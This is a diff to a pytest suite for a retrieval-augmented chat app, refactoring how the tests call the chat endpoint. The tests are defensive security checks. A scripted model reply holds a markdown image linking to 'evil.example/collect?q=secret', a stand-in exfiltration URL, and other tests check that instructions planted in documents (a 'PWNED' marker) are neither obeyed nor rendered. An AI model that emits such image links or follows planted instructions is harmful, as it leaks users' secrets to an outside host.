@@ -22,7 +22,6 @@ from pathlib import Path
 import httpx
 import pytest
 from fastapi.testclient import TestClient
-from gradio_client import Client
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 from uvicorn.logging import AccessFormatter
@@ -33,7 +32,7 @@ from rag.logs import install_redaction
 from rag.runtime import Runtime
 from rag.ui import create_app
 from tests.fake_llm import Script, fake_openai
-from tests.servers import ROOT, app_server, clean_env, wait_for_status
+from tests.servers import ROOT, app_server, chat, chat_client, clean_env, wait_for_status
 
 KEY = "sk-test-123"
 QUESTION = "Which Security Council resolution established MINUSMA?"
@@ -192,8 +191,8 @@ def test_s07_model_written_image_or_link_is_not_rendered(parrot, script: Script)
     script.reply = "![x](https://evil.example/collect?q=secret) resolution 2100"
     answer = ask(url, QUESTION).json()
     assert "evil.example" not in answer["answer"] and "![" not in answer["answer"]
-    chat = Client(url, verbose=False).predict(QUESTION, api_name="/chat")
-    assert "evil.example" not in chat and "<img" not in chat
+    reply = chat(url, QUESTION)
+    assert "evil.example" not in reply and "<img" not in reply
 
 
 def test_s15_nothing_relevant_is_refused_without_citations(parrot, script: Script) -> None:  # noqa: ANN001
@@ -229,7 +228,8 @@ def test_s22_only_the_chat_and_the_documented_routes_are_public(app_url) -> None
     import gradio
 
     assert tuple(int(p) for p in gradio.__version__.split(".")[:2]) >= (6, 6)
-    named = Client(url, verbose=False).view_api(print_info=False, return_format="dict")["named_endpoints"]
+    with chat_client(url) as client:
+        named = client.view_api(print_info=False, return_format="dict")["named_endpoints"]
     assert list(named) == ["/chat"], list(named)
     paths = set(httpx.get(f"{url}/openapi.json").json()["paths"])
     documented = {"/healthz", "/readyz", "/api/ask", "/api/ask/stream", "/api/feedback"}
@@ -363,6 +363,6 @@ def test_s06_s07_planted_instructions_are_not_obeyed_nor_rendered(planted_app: s
     answer = ask(planted_app, question).json()
     assert "PWNED" not in answer["answer"] and "evil.example" not in answer["answer"], answer
     assert all("PWNED" not in s["text"] or "99-planted" in s["source"] for s in answer["sources"])
-    chat = Client(planted_app, verbose=False).predict(question, api_name="/chat")
-    assert "PWNED" not in chat.split("<details>")[0] and "evil.example" not in chat and "<img" not in chat
-    assert "<script>" not in chat and "javascript:" not in chat.split("<details>")[0]
+    reply = chat(planted_app, question)
+    assert "PWNED" not in reply.split("<details>")[0] and "evil.example" not in reply and "<img" not in reply
+    assert "<script>" not in reply and "javascript:" not in reply.split("<details>")[0]
